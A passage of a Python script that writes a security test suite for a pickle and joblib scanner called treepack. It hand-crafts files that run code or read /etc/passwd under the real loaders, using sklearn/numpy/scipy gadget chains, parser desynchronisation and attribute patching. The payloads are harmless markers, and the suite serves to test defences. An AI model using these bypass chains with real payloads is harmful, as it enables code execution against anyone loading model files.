#!/usr/bin/python3
"""Write treepack's attack suite: hostile pickles, joblib files and
compressed streams that really run code (or read a file) under the real
loaders, crafted opcode by opcode.

    /usr/bin/python3 tests/security/make_attacks.py OUTDIR

writes one file per attack into OUTDIR and a manifest OUTDIR/attacks.tsv
(name, class, loaders, payload, file, treepack options, description).
prove.py runs the loaders on them; run.sh asks treepack about them.

Every payload is harmless and detectable: a "marker" payload creates the
file MARKER in the current directory (the prover runs each load in a fresh
temporary directory), a "read" payload returns /etc/passwd as part of the
loaded object.  Nothing here imports sklearn, numpy or joblib: the bytes
are written by hand (see CPython's Lib/pickletools.py for the opcodes), so
every file is the same on every run.
"""
import bz2
import gzip
import lzma
import os
import struct
import sys
import zlib

# ---------------------------------------------------------------- opcodes

MARK = b'('
STOP = b'.'
POP = b'0'
POP_MARK = b'1'
DUP = b'2'
NONE = b'N'
NEWTRUE = b'\x88'
NEWFALSE = b'\x89'
EMPTY_TUPLE = b')'
TUPLE = b't'
TUPLE1 = b'\x85'
TUPLE2 = b'\x86'
TUPLE3 = b'\x87'
EMPTY_LIST = b']'
APPEND = b'a'
APPENDS = b'e'
EMPTY_DICT = b'}'
SETITEM = b's'
SETITEMS = b'u'
EMPTY_SET = b'\x8f'
ADDITEMS = b'\x90'
REDUCE = b'R'
BUILD = b'b'
NEWOBJ = b'\x81'
STACK_GLOBAL = b'\x93'
MEMOIZE = b'\x94'
OBJ = b'o'


def proto(n):
    return b'\x80' + bytes([n])


def frame(n):
    return b'\x95' + struct.pack('<Q', n)


def glob(module, name):
    """GLOBAL: protocols 0-3 write it, every protocol reads it."""
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def sglob(module, name):
    """STACK_GLOBAL (protocol 4): two str on the stack."""
    return unicode(module) + unicode(name) + STACK_GLOBAL


def inst(module, name):
    """INST (protocol 0): MARK args INST module name -> module.name(*args)."""
    return b'i' + module.encode() + b'\n' + name.encode() + b'\n'


def unicode(s):
    b = s.encode('utf-8')
    if len(b) < 256:
        return b'\x8c' + bytes([len(b)]) + b  # SHORT_BINUNICODE (protocol 4)
    return b'X' + struct.pack('<I', len(b)) + b


def binunicode(s):
    b = s.encode('utf-8')
    return b'X' + struct.pack('<I', len(b)) + b  # BINUNICODE (protocol 1+)


def binbytes(b):
    return b'B' + struct.pack('<I', len(b)) + b  # BINBYTES (protocol 3)


def binint(n):
    if 0 <= n < 256:
        return b'K' + bytes([n])
    if 0 <= n < 65536:
        return b'M' + struct.pack('<H', n)
    if -2**31 <= n < 2**31:
        return b'J' + struct.pack('<i', n)
    raise ValueError(n)


def binput(i):
    return b'q' + bytes([i])


def binget(i):
    return b'h' + bytes([i])


class Raw(bytes):
    """Opcodes to insert as they are in val()."""


def val(x, text=binunicode):
    """Opcodes that push x (protocols 2+; bytes need 3)."""
    if isinstance(x, Raw):
        return bytes(x)
    if x is None:
        return NONE
    if x is True:
        return NEWTRUE
    if x is False:
        return NEWFALSE
    if isinstance(x, int):
        return binint(x)
    if isinstance(x, float):
        return b'G' + struct.pack('>d', x)
    if isinstance(x, str):
        return text(x)
    if isinstance(x, bytes):
        return binbytes(x)
    if isinstance(x, tuple):
        if len(x) == 0:
            return EMPTY_TUPLE
        if len(x) <= 3:
            return b''.join(val(i, text) for i in x) + [TUPLE1, TUPLE2, TUPLE3][len(x) - 1]
        return MARK + b''.join(val(i, text) for i in x) + TUPLE
    if isinstance(x, list):
        return EMPTY_LIST + ((MARK + b''.join(val(i, text) for i in x) + APPENDS) if x else b'')
    if isinstance(x, dict):
        body = b''.join(val(k, text) + val(v, text) for k, v in x.items())
        return EMPTY_DICT + ((MARK + body + SETITEMS) if x else b'')
    raise TypeError(type(x))


def call(fn, *args, text=binunicode):
    """fn(*args) by REDUCE; fn is opcodes pushing the callable."""
    return fn + val(tuple(args), text) + REDUCE


# ---------------------------------------------------------------- payloads

CODE = "open('MARKER','w').write('ran')"   # for exec / eval
SHELL = 'touch MARKER'                     # for os.system
PASSWD = '/etc/passwd'                     # read payloads


def os_system():
    """The payload the hidden bytes carry: os.system('touch MARKER'),
    pushing one value (its exit status)."""
    return call(glob('os', 'system'), SHELL)


# sources of code that today's allowlist admits
SCORER = 'sklearn.metrics._scorer'
CYTHON = 'sklearn.metrics._dist_metrics'   # a Cython module: __builtins__ is the builtins module


def cached_call(obj, method, *args):
    """sklearn.metrics._scorer._cached_call(None, obj, method, *args):
    getattr(obj, method)(*args)."""
    return call(sglob(SCORER, '_cached_call'), None, Raw(obj), method, *args)


def builtins_module():
    return sglob(CYTHON, '__builtins__')


def exec_fn():
    """builtins.exec, fetched with _cached_call's getattr."""
    return cached_call(builtins_module(), '__getattribute__', 'exec')


def partial(fn, *args):
    return call(sglob(SCORER, 'partial'), Raw(fn), *args)


# ---------------------------------------------------------------- numpy / joblib pieces

WRAPPER = ('joblib.numpy_pickle', 'NumpyArrayWrapper')


def dtype(typestr, state):
    """numpy.dtype(typestr, False, True) + BUILD state (a tuple of values)."""
    return call(glob('numpy', 'dtype'), typestr, False, True) + val(state) + BUILD


def f8():
    return dtype('f8', (3, '<', None, None, None, -1, -1, 0))


def wrapper_state(shape, dt, align=None, extra=None, shape_ops=None):
    """The dict joblib pickles for a NumpyArrayWrapper (joblib 1.2 layout)."""
    items = [('subclass', Raw(glob('numpy', 'ndarray'))),
             ('shape', Raw(shape_ops) if shape_ops is not None else shape),
             ('order', 'C'), ('dtype', Raw(dt)), ('allow_mmap', False)]
    if align is not None:
        items.append(('numpy_array_alignment_bytes', align))
    items += list((extra or {}).items())
    return val(dict(items))


def wrapper_newobj():
    """cls.__new__(cls) as joblib writes it: GLOBAL, EMPTY_TUPLE, NEWOBJ."""
    return glob(*WRAPPER) + EMPTY_TUPLE + NEWOBJ


def desync(a, b, payload, first=None):
    """Bytes that two readers at the same offset P read differently.

    Reader A (what treepack reads today) goes on with opcodes at P+a,
    reader B (the real loader) at P+b; the bytes before are array data
    to each.  B runs `payload` (opcodes pushing one value), A never sees
    it: the earlier reader steps over the other's region inside a
    BINBYTES.  Both end at the same offset with their stacks as before.
    `first`, when given, is the byte at P (a padding length that both
    readers take as data)."""
    if a < b:
        assert b - a >= 5
        # A: BINBYTES over B's data and payload, then POP.
        # B: its data, the payload, then the same POP.
        L = b + len(payload) - (a + 5)
        out = bytearray(b'\x00' * a) + b'B' + struct.pack('<I', L)
        out += b'\x00' * (b - len(out)) + payload + POP
    else:
        # B: the payload, POP, then BINBYTES over A's data ending with
        # the NONE that A reads; then POP (B's bytes, A's None).
        L = a + 1 - (b + len(payload) + 1 + 5)
        assert L >= 1, (a, b, len(payload))
        out = bytearray(b'\x00' * b) + payload + POP + b'B' + struct.pack('<I', L)
        out += b'\x00' * (a - len(out)) + NONE + POP
    if first is not None:
        assert min(a, b) >= 1
        out[0] = first
    return bytes(out)


# ---------------------------------------------------------------- the attacks

ATTACKS = []


def attack(name, cls, loaders, payload, data, desc, ext='.pkl', opts='-'):
    ATTACKS.append((name, cls, loaders, payload, data, desc, ext, opts))


PJ = 'pickle,joblib'  # a plain pickle: both loaders read it the same way


def class1():
    attack('c1_cython_builtins_exec', 1, PJ, 'marker',
           proto(4) + cached_call(builtins_module(), 'exec', CODE) + STOP,
           "_cached_call(None, sklearn.metrics._dist_metrics.__builtins__ (the builtins module), 'exec', code)")
    attack('c1_cython_builtins_eval_reduction', 1, PJ, 'marker',
           proto(4) + cached_call(sglob('sklearn.metrics._pairwise_distances_reduction._argkmin', '__builtins__'),
                                  'eval', "__import__('os').system('touch MARKER')") + STOP,
           "_cached_call(None, ..._pairwise_distances_reduction._argkmin.__builtins__, 'eval', ...)")
    attack('c1_builtins_dict_exec', 1, PJ, 'marker',
           proto(4) + cached_call(cached_call(sglob(SCORER, '__builtins__'), 'get', 'exec'), '__call__', CODE) + STOP,
           "a Python module's __builtins__ dict: _cached_call(None, d, 'get', 'exec'), then called")
    attack('c1_loader_get_data_read', 1, PJ, 'read',
           proto(4) + cached_call(sglob(SCORER, '__loader__'), 'get_data', PASSWD) + STOP,
           "sklearn.metrics._scorer.__loader__.get_data('/etc/passwd')")
    attack('c1_spec_loader_read', 1, PJ, 'read',
           proto(4) + cached_call(cached_call(sglob('sklearn.metrics', '__spec__'), '__getattribute__', 'loader'),
                                  'get_data', PASSWD) + STOP,
           "sklearn.metrics.__spec__.loader.get_data('/etc/passwd')")
    attack('c1_np_savetxt_write', 1, PJ, 'marker',
           proto(4) + cached_call(sglob(SCORER, 'np'), 'savetxt', 'MARKER', (1,)) + STOP,
           "the re-exported numpy module: np.savetxt('MARKER', (1,)) writes a file")
    sys_ = cached_call(sglob('sklearn.metrics._classification', 'warnings'), '__getattribute__', 'sys')
    mods = cached_call(sys_, '__getattribute__', 'modules')
    os_ = cached_call(mods, 'get', 'os')
    attack('c1_warnings_sys_os_system', 1, PJ, 'marker',
           proto(4) + cached_call(os_, 'system', SHELL) + STOP,
           "the re-exported warnings module: warnings.sys.modules['os'].system(...)")
    cb = cached_call(sglob(SCORER, 'copy'), '__getattribute__', '__builtins__')
    attack('c1_copy_module_builtins', 1, PJ, 'marker',
           proto(4) + cached_call(cached_call(cb, 'get', 'exec'), '__call__', CODE) + STOP,
           "the re-exported copy module: copy.__builtins__['exec'](code)")
    # partial composes: a one-argument caller then runs exec(code, {})
    p = partial(sglob(SCORER, '_cached_call'), None, Raw(builtins_module()), 'exec', CODE)
    attack('c1_partial_randomstate', 1, PJ, 'marker',
           proto(4) + call(sglob('numpy.random._pickle', '__randomstate_ctor'), {}, Raw(p)) + STOP,
           "sklearn.metrics._ranking.partial(_cached_call, None, builtins, 'exec', code) called by __randomstate_ctor")
    # a class-name re-export of joblib's Parallel: calling it runs its tasks
    task = (Raw(sglob(SCORER, '_cached_call')), (None, Raw(builtins_module()), 'exec', CODE), {})
    par = call(sglob('sklearn.ensemble._forest', 'Parallel'))
    attack('c1_parallel_reexport', 1, PJ, 'marker',
           proto(4) + call(sglob('numpy.random._pickle', '__randomstate_ctor'), [task], Raw(par)) + STOP,
           "sklearn.ensemble._forest.Parallel() (a class-name re-export) called on a task list")
    # delayed (a lowercase re-export in sklearn.metrics.pairwise) builds the task
    dl = call(call(sglob('sklearn.metrics.pairwise', 'delayed'), Raw(sglob(SCORER, '_cached_call'))),
              None, Raw(builtins_module()), 'exec', CODE)
    attack('c1_delayed_parallel', 1, PJ, 'marker',
           proto(4) + call(sglob('numpy.random._pickle', '__randomstate_ctor'), [Raw(dl)],
                           Raw(call(sglob('sklearn.metrics.pairwise', 'Parallel')))) + STOP,
           "sklearn.metrics.pairwise.delayed(_cached_call)(...) run by sklearn.metrics.pairwise.Parallel()")
    # protocol 4 find_class walks dotted names: today refused (not an identifier)
    attack('c1_dotted_stack_global', 1, PJ, 'marker',
           proto(4) + call(sglob(CYTHON, '__builtins__.exec'), CODE) + STOP,
           "STACK_GLOBAL sklearn.metrics._dist_metrics '__builtins__.exec' (attribute walk)")
    attack('c1_dotted_global', 1, PJ, 'marker',
           proto(4) + call(glob(SCORER, 'np.savetxt'), 'MARKER', (1,)) + STOP,
           "GLOBAL sklearn.metrics._scorer 'np.savetxt' after PROTO 4 (the walk applies to GLOBAL too)")


def class2():
    rs = sglob('numpy.random._pickle', '__randomstate_ctor')
    attack('c2_randomstate_ctor_calls_arg', 2, PJ, 'marker',
           proto(4) + call(rs, CODE, Raw(exec_fn())) + STOP,
           "numpy.random._pickle.__randomstate_ctor(code, exec): calls its second argument")
    attack('c2_generator_ctor_calls_arg', 2, PJ, 'marker',
           proto(4) + call(sglob('numpy.random._pickle', '__generator_ctor'), CODE, Raw(exec_fn())) + STOP,
           "numpy.random._pickle.__generator_ctor(code, exec)")

    # an instance whose instance dict holds __new__ / __init__: copyreg and
    # sklearn's newObj look those up on what they are handed, and call them
    def holder(attrs):
        obj = call(glob('copyreg', '_reconstructor'), Raw(glob('collections', 'OrderedDict')),
                   Raw(glob('builtins', 'dict')), {})
        return obj + val(attrs) + BUILD

    runner = Raw(partial(exec_fn(), CODE))   # runner(g, ...) = exec(code, g, ...)
    attack('c2_newobj_instance_new', 2, PJ, 'marker',
           proto(4) + call(glob('copyreg', '__newobj__'), Raw(holder({'__new__': runner}))) + STOP,
           "copyreg.__newobj__(obj) calls obj.__new__(obj): here partial(exec, code)")
    attack('c2_newobj_ex_instance_new', 2, PJ, 'marker',
           proto(4) + call(glob('copyreg', '__newobj_ex__'), Raw(holder({'__new__': runner})), (), {}) + STOP,
           "copyreg.__newobj_ex__(obj, (), {}) calls obj.__new__(obj)")
    attack('c2_sklearn_newobj', 2, PJ, 'marker',
           proto(4) + call(sglob('sklearn.neighbors._ball_tree', 'newObj'), Raw(holder({'__new__': runner}))) + STOP,
           "sklearn.neighbors._ball_tree.newObj(obj) calls obj.__new__(obj)")
    attack('c2_reconstructor_base_new', 2, PJ, 'marker',
           proto(4) + call(glob('copyreg', '_reconstructor'), {}, Raw(holder({'__new__': runner})), {}) + STOP,
           "copyreg._reconstructor(cls, base, state) calls base.__new__(cls, state)")
    init = Raw(partial(sglob(SCORER, '_cached_call'), None, Raw(builtins_module()), 'exec', CODE))
    attack('c2_reconstructor_base_init', 2, PJ, 'marker',
           proto(4) + call(glob('copyreg', '_reconstructor'), Raw(glob('collections', 'OrderedDict')),
                           Raw(holder({'__init__': init})), None) + STOP,
           "copyreg._reconstructor(OrderedDict, base, None) calls base.__init__(obj, None)")


def class3():
    k = 8  # elements: 64 bytes of float64
    n = 8 * k

    # --- pickle.load reads joblib's raw array bytes as opcodes
    def raw_as_opcodes(align=None):
        head = proto(3) + wrapper_newobj() + wrapper_state((k,), f8(), align) + BUILD
        # treepack (as joblib): [pad byte, pad] + n bytes of data; pickle.load: opcodes at once
        pay = os_system()
        if align is None:
            body = desync(n, 0, pay)
        else:
            p = pay[0]                  # treepack takes the payload's first byte as the padding length
            body = desync(1 + p + n, 0, pay)
        return head + body + STOP

    s = raw_as_opcodes()
    attack('c3_raw_bytes_as_opcodes', 3, 'pickle', 'marker', s,
           "a NumpyArrayWrapper's data, skipped as joblib.load skips it, holds opcodes that pickle.load runs")
    attack('c3_raw_bytes_as_opcodes_aligned', 3, 'pickle', 'marker', raw_as_opcodes(16),
           "the same with numpy_array_alignment_bytes: the padding length byte is an opcode to pickle.load")
    attack('c3_raw_bytes_as_opcodes_gzip', 3, 'pickle_gzip', 'marker', gzip.compress(s, 9, mtime=0),
           "pickle.load(gzip.open(f)) of a gzip joblib-looking stream", ext='.pkl.gz')
    attack('c3_raw_bytes_as_opcodes_bz2', 3, 'pickle_bz2', 'marker', bz2.compress(s, 9),
           "pickle.load(bz2.open(f))", ext='.pkl.bz2')
    attack('c3_raw_bytes_as_opcodes_xz', 3, 'pickle_xz', 'marker', lzma.compress(s, lzma.FORMAT_XZ),
           "pickle.load(lzma.open(f))", ext='.pkl.xz')

    # --- joblib.load reads a different number of bytes than treepack
    def joblib_desync(a, b, state_ops, first=None, pre=b'', wrapper=None, tail=b''):
        w = wrapper if wrapper is not None else wrapper_newobj()
        return proto(3) + pre + w + state_ops + BUILD + desync(a, b, os_system(), first) + tail + STOP

    # the dtype's BUILD state carries another elsize: numpy ignores it for f8
    el = dtype('f8', (3, '<', None, None, None, 1, 1, 0))
    s = joblib_desync(k, n, wrapper_state((k,), el))
    attack('c3_f8_state_elsize', 3, 'joblib', 'marker', s,
           "dtype f8 whose state says elsize 1: numpy keeps 8 bytes, treepack skips 1 per element")
    attack('c3_f8_state_elsize_zlib', 3, 'joblib', 'marker', zlib.compress(s, 3),
           "the same, joblib zlib compression", ext='.joblib.z')
    attack('c3_f8_state_elsize_gzip', 3, 'joblib', 'marker', gzip.compress(s, 3, mtime=0),
           "the same, gzip", ext='.joblib.gz')
    attack('c3_f8_state_elsize_bz2', 3, 'joblib', 'marker', bz2.compress(s, 3),
           "the same, bz2", ext='.joblib.bz2')
    attack('c3_f8_state_elsize_xz', 3, 'joblib', 'marker', lzma.compress(s, lzma.FORMAT_XZ, preset=3),
           "the same, xz", ext='.joblib.xz')
    attack('c3_f8_state_elsize_lzma', 3, 'joblib', 'marker', lzma.compress(s, lzma.FORMAT_ALONE, preset=3),
           "the same, lzma (alone)", ext='.joblib.lzma')
    try:
        import lz4.frame
        attack('c3_f8_state_elsize_lz4', 3, 'joblib', 'marker', lz4.frame.compress(s, compression_level=0),
               "the same, lz4", ext='.joblib.lz4')
    except ImportError:
        print('make_attacks: no lz4 module, c3_f8_state_elsize_lz4 left out', file=sys.stderr)

    i8 = dtype('<i8', (3, '<', None, None, None, 2, 2, 0))
    attack('c3_i8_state_elsize', 3, 'joblib', 'marker', joblib_desync(2 * k, n, wrapper_state((k,), i8)),
           "dtype <i8 whose state says elsize 2")

    # a V dtype's version-2 state (7 items): numpy takes its elsize, treepack the typestr's 16
    fields = {'a': (Raw(f8()), 0)}
    v2 = dtype('V16', (2, '|', None, ('a',), fields, 24, 8))
    attack('c3_void_v2_elsize', 3, 'joblib', 'marker', joblib_desync(16 * k, 24 * k, wrapper_state((k,), v2)),
           "dtype V16 with a version-2 state of elsize 24")

    # version-2 state with an object field: numpy sets hasobject, joblib calls
    # pickle.load on the "array" bytes; treepack skips 16 bytes per element
    ofields = {'a': (Raw(dtype('|O', (3, '|', None, None, None, -1, -1, 63))), 0), 'b': (Raw(f8()), 8)}
    v2o = dtype('V16', (2, '|', None, ('a', 'b'), ofields, 16, 8))
    nested = proto(2) + os_system() + STOP      # what joblib loads as the array
    a = 16 * k
    b = len(nested)
    # after the nested pickle joblib reads opcodes at P+b, treepack at P+a
    gap = a - b
    L = gap + 1 - 5
    body = nested + b'B' + struct.pack('<I', L) + b'\x00' * (gap - 5) + NONE + POP
    attack('c3_void_v2_object_field', 3, 'joblib', 'marker',
           proto(3) + wrapper_newobj() + wrapper_state((k,), v2o) + BUILD + body + STOP,
           "V16 dtype, version-2 state with an 'O' field: joblib unpickles the array bytes (os.system inside)")

    # (dtype 'O' with flags 0 in a version-3 state is left out: numpy then
    # takes raw bytes as object pointers and the load crashes first.)

    # a slot state (dict, {'shape': ...}) overrides the dict's shape
    st = b''.join([wrapper_state((1,), f8()), val({'shape': (k,)}), TUPLE2])
    attack('c3_slot_state_shape', 3, 'joblib', 'marker', joblib_desync(8, n, st),
           "BUILD state (dict, {'shape': (8,)}): setattr overrides the dict's shape (1,)")

    # shape elements that are numpy integers (treepack then falls back to reading as pickle.load).
    # (A float or str shape is left out: np.int64 counts it, but joblib's
    # array.shape = (8.0,) then fails before the payload.)
    i64 = call(glob('numpy', 'int64'), str(k))
    attack('c3_shape_numpy_int64', 3, 'joblib', 'marker',
           joblib_desync(0, n, wrapper_state(None, f8(), shape_ops=i64 + TUPLE1)),
           "shape (numpy.int64('8'),): joblib counts 8 elements, treepack reads the data as opcodes")
    sc = call(glob('numpy.core.multiarray', 'scalar'), Raw(dtype('<i8', (3, '<', None, None, None, -1, -1, 0))),
              struct.pack('<q', k))
    attack('c3_shape_numpy_scalar', 3, 'joblib', 'marker',
           joblib_desync(0, n, wrapper_state(None, f8(), shape_ops=sc + TUPLE1)),
           "shape (numpy.core.multiarray.scalar(dtype('<i8'), b'...'),)")
    # a bytes key b'shape' after the str one: treepack reads the bytes key as
    # the shape, the instance's attribute is the str key's
    sk = wrapper_state((k,), f8(), extra={b'shape': (1,)})
    attack('c3_shape_key_bytes', 3, 'joblib', 'marker', joblib_desync(8, n, sk),
           "state {'shape': (8,), ..., b'shape': (1,)}: joblib counts 8 elements, treepack 1")

    # alignment given as bytes key (treepack pads, joblib does not) and with escapes (the reverse)
    p = 200
    sb = wrapper_state((k,), f8(), extra={b'numpy_array_alignment_bytes': 16})
    attack('c3_align_key_bytes', 3, 'joblib', 'marker', joblib_desync(1 + p + n, n, sb, first=p),
           "state key b'numpy_array_alignment_bytes' (bytes): no attribute for joblib, padding for treepack")
    se = wrapper_state((k,), f8())
    se = se[:-1] + b'Vnumpy_array_alignment_byte\\u0073\n' + binint(16) + SETITEMS
    attack('c3_align_key_escaped', 3, 'joblib', 'marker', joblib_desync(n, 1 + p + n, se, first=p),
           "the alignment key written with a \\u escape (UNICODE opcode): joblib pads, treepack does not")
    attack('c3_align_key_escaped_gzip', 3, 'joblib', 'marker',
           gzip.compress(joblib_desync(n, 1 + p + n, se, first=p), 3, mtime=0),
           "the same inside a gzip joblib file", ext='.joblib.gz')

    # wrappers made another way than joblib writes them
    dt_args = (Raw(glob('numpy', 'ndarray')), (k,), 'C', Raw(f8()))
    made = call(glob(*WRAPPER), *dt_args)       # __init__ runs: alignment 16
    attack('c3_wrapper_reduce', 3, 'joblib', 'marker',
           joblib_desync(0, 1 + ord('B') + n, val({'allow_mmap': False}), wrapper=made),
           "NumpyArrayWrapper(...) by REDUCE (__init__ sets the alignment): treepack sees no wrapper")
    nw = call(glob('copyreg', '__newobj__'), Raw(glob(*WRAPPER)))
    attack('c3_wrapper_copyreg_newobj', 3, 'joblib', 'marker',
           joblib_desync(0, n, wrapper_state((k,), f8()), wrapper=nw),
           "copyreg.__newobj__(NumpyArrayWrapper) by REDUCE: treepack sees no wrapper")
    full = wrapper_state((k,), f8())
    obj = MARK + glob(*WRAPPER) + b''.join(val(x) for x in dt_args) + OBJ
    attack('c3_wrapper_obj', 3, 'joblib', 'marker', joblib_desync(n, 1 + p + n, full, first=p, wrapper=obj),
           "OBJ NumpyArrayWrapper(...): __init__ defaults the alignment to 16, the state does not say it")
    ins = MARK + b''.join(val(x) for x in dt_args) + inst(*WRAPPER)
    attack('c3_wrapper_inst', 3, 'joblib', 'marker', joblib_desync(n, 1 + p + n, full, first=p, wrapper=ins),
           "INST joblib.numpy_pickle NumpyArrayWrapper: the same through protocol 0's INST")

    # a second BUILD on the same wrapper: joblib reads a second array, with the
    # first state's attributes (an empty state changes nothing)
    w = wrapper_newobj() + binput(50) + full + BUILD
    again = binget(50) + EMPTY_DICT + BUILD
    # joblib: data(n) again data(n) payload ; treepack (its joblib pass fails
    # on the second BUILD, so it reads as pickle.load): BINBYTES over it all
    inner = b'\x00' * (n - 5) + again + b'\x00' * n + os_system()
    s = proto(3) + w + binbytes(inner) + POP + STOP
    attack('c3_second_build', 3, 'joblib', 'marker', s,
           "memo GET of the wrapper and BUILD {} again: joblib reads a second array from the first state")

    # the wrapper's BUILD inside a FRAME: the pure-Python unpickler has read
    # the frame already, so joblib takes the array from after the frame
    inside = wrapper_newobj() + full + BUILD + MEMOIZE
    s = proto(4) + frame(len(inside)) + inside + desync(0, n, os_system()) + STOP
    attack('c3_frame_wrapper_in_frame', 3, 'joblib', 'marker', s,
           "a FRAME holding the wrapper's BUILD: joblib reads the array after the frame, treepack reads it as opcodes")

    # a second pickle after STOP makes treepack's joblib reading fail, so it
    # judges the file as pickle.load reads it; joblib.load reads the first only
    second = proto(2) + wrapper_newobj() + EMPTY_DICT + BUILD + STOP
    s = proto(3) + wrapper_newobj() + full + BUILD + desync(0, n, os_system()) + STOP + second
    attack('c3_trailing_pickle', 3, 'joblib', 'marker', s,
           "a second pickle after STOP (a wrapper without dtype): treepack reads the first as pickle.load would")

    # a stream in two compressed members: treepack reads the first only.
    # (gzip and zlib are left out: joblib's BinaryZlibFile spins forever on a
    # second member, so it never reaches the payload)
    head = proto(3) + wrapper_newobj() + full + BUILD
    s1 = head + STOP                                   # treepack: the data runs out, STOP as pickle.load
    s2 = b'\x00' * (n - 1) + os_system() + STOP        # joblib: the rest of the data, then the payload
    attack('c3_bz2_two_streams', 3, 'joblib', 'marker', bz2.compress(s1, 3) + bz2.compress(s2, 3),
           "bz2: the payload in a second stream", ext='.joblib.bz2')
    attack('c3_xz_two_streams', 3, 'joblib', 'marker',
           lzma.compress(s1, lzma.FORMAT_XZ, preset=3) + lzma.compress(s2, lzma.FORMAT_XZ, preset=3),
           "xz: the payload in a second stream", ext='.joblib.xz')
    attack('c3_lzma_two_streams', 3, 'joblib', 'marker',
           lzma.compress(s1, lzma.FORMAT_ALONE, preset=3) + lzma.compress(s2, lzma.FORMAT_ALONE, preset=3),
           "lzma (alone): the payload in a second stream", ext='.joblib.lzma')
    try:
        import lz4.frame
        attack('c3_lz4_two_frames', 3, 'joblib', 'marker',
               lz4.frame.compress(s1, compression_level=0) + lz4.frame.compress(s2, compression_level=0),
               "lz4: the payload in a second frame", ext='.joblib.lz4')
    except ImportError:
        pass

    # a dtype whose typestr treepack does not read ('d'): it falls back to pickle.load's reading
    attack('c3_dtype_typestr_d', 3, 'joblib', 'marker',
           joblib_desync(0, n, wrapper_state((k,), dtype('d', (3, '<', None, None, None, -1, -1, 0)))),
           "dtype 'd' (float64): treepack does not size it and reads the data as opcodes")


def class4():
    k, n, p = 8, 64, 200
    # BUILD on the class NumpyArrayWrapper: setattr of a class attribute that
    # joblib reads on every wrapper (getattr(self, 'numpy_array_alignment_bytes', None))
    patch = glob(*WRAPPER) + val((None, {'numpy_array_alignment_bytes': 16})) + BUILD + POP
    s = proto(3) + patch + wrapper_newobj() + wrapper_state((k,), f8()) + BUILD + \
        desync(n, 1 + p + n, os_system(), first=p) + STOP
    attack('c4_class_attr_alignment', 4, 'joblib', 'marker', s,
           "BUILD (None, {'numpy_array_alignment_bytes': 16}) on the class: later wrappers read padding")
    # BUILD on the numpy module (re-exported as sklearn.metrics._scorer.np):
    # numpy.matrix becomes NumpyArrayWrapper, so a later "numpy.matrix" object
    # is a wrapper to joblib (isinstance) and none to treepack (by name)
    patch = sglob(SCORER, 'np') + val((None, {'matrix': Raw(glob(*WRAPPER))})) + BUILD + POP
    s = proto(4) + patch + glob('numpy', 'matrix') + EMPTY_TUPLE + NEWOBJ + wrapper_state((k,), f8()) + BUILD + \
        desync(0, n, os_system()) + STOP
    attack('c4_alias_wrapper_class', 4, 'joblib', 'marker', s,
           "BUILD on the numpy module sets numpy.matrix = NumpyArrayWrapper; a numpy.matrix then reads array data")
    # BUILD on a function: its __defaults__ become the arguments of a later empty call
    rs = sglob('numpy.random._pickle', '__randomstate_ctor')
    s = proto(4) + rs + val((None, {'__defaults__': (CODE, Raw(exec_fn()))})) + BUILD + EMPTY_TUPLE + REDUCE + STOP
    attack('c4_function_defaults', 4, PJ, 'marker', s,
           "BUILD on __randomstate_ctor sets __defaults__ = (code, exec); then __randomstate_ctor()")
    # BUILD on a module: a later import of an allowed name gets what was set
    s = proto(4) + sglob(SCORER, 'np') + val((None, {'float64': Raw(exec_fn())})) + BUILD + POP + \
        call(glob('numpy', 'float64'), CODE) + STOP
    attack('c4_module_attr_redirect', 4, PJ, 'marker', s,
           "BUILD on the numpy module sets numpy.float64 = exec; then numpy.float64(code)")
    # BUILD on the builtins module (a Cython module's __builtins__): patch a builtin
    s = proto(4) + builtins_module() + val((None, {'frozenset': Raw(exec_fn())})) + BUILD + POP + \
        call(glob('builtins', 'frozenset'), CODE) + STOP
    attack('c4_builtins_patch', 4, PJ, 'marker', s,
           "BUILD on builtins sets builtins.frozenset = exec; then builtins.frozenset(code)")


def class5():
    # scipy.stats distributions: rv_generic.__setstate__ exec()s _parse_arg_template
    gen = glob('scipy.stats._continuous_distns', 'norm_gen') + EMPTY_TUPLE + NEWOBJ
    attack('c5_scipy_continuous_exec', 5, PJ, 'marker',
           proto(2) + gen + val({'_parse_arg_template': CODE}) + BUILD + STOP,
           "norm_gen.__new__ + BUILD {'_parse_arg_template': code}: __setstate__ runs exec(code)")
    gen = call(glob('copyreg', '_reconstructor'), Raw(glob('scipy.stats._discrete_distns', 'binom_gen')),
               Raw(glob('builtins', 'object')), None)
    attack('c5_scipy_discrete_exec', 5, PJ, 'marker',
           proto(2) + gen + val({'_parse_arg_template': CODE, 'name': 'binom'}) + BUILD + STOP,
           "binom_gen through copyreg._reconstructor, the same exec")
    fz = call(glob('scipy.stats._distn_infrastructure', 'rv_continuous_frozen'),
              Raw(glob('scipy.stats._continuous_distns', 'uniform_gen') + EMPTY_TUPLE + NEWOBJ +
                  val({'_parse_arg_template': CODE}) + BUILD))
    attack('c5_scipy_frozen_exec', 5, PJ, 'marker', proto(2) + fz + STOP,
           "a frozen distribution (as RandomizedSearchCV keeps them) around such a generator")
    # APPEND / ADDITEMS on an object call its append / add, looked up on the instance
    est = call(glob('copyreg', '_reconstructor'), Raw(glob('sklearn.tree._classes', 'DecisionTreeClassifier')),
               Raw(glob('builtins', 'object')), None)
    attack('c5_append_on_object', 5, PJ, 'marker',
           proto(4) + est + val({'append': Raw(exec_fn())}) + BUILD + val(CODE) + APPEND + STOP,
           "BUILD {'append': exec} on an estimator, then APPEND code: the unpickler calls obj.append(code)")
    attack('c5_additems_on_object', 5, PJ, 'marker',
           proto(4) + est + val({'add': Raw(exec_fn())}) + BUILD + MARK + val(CODE) + ADDITEMS + STOP,
           "ADDITEMS on an object: the unpickler calls obj.add(item)")
    # instance __setstate__: BUILD calls it with the next state
    attack('c5_setstate_instance_attr', 5, PJ, 'marker',
           proto(4) + call(glob('copyreg', '_reconstructor'), Raw(glob('collections', 'OrderedDict')),
                           Raw(glob('builtins', 'dict')), {}) +
           val({'__setstate__': Raw(exec_fn())}) + BUILD + val(CODE) + BUILD + STOP,
           "BUILD {'__setstate__': exec} on an instance without one, then BUILD code: exec(code)")
    # names written with escapes (STRING / UNICODE): Python decodes them
    s = proto(4) + b"S'sklearn.metrics._sc\\x6frer'\n" + b"S'_cached_call'\n" + STACK_GLOBAL + \
        val((None, Raw(builtins_module()), 'exec', CODE)) + REDUCE + STOP
    attack('c5_escaped_string_name', 5, PJ, 'marker', s,
           "STACK_GLOBAL of STRING 'sklearn.metrics._sc\\x6frer': an escape in the module name")
    # protocol 0 and 1: INST and OBJ call what they name
    p0 = MARK + b'N' + glob(CYTHON, '__builtins__') + b"S'exec'\n" + b"S\"" + CODE.encode() + b"\"\n" + \
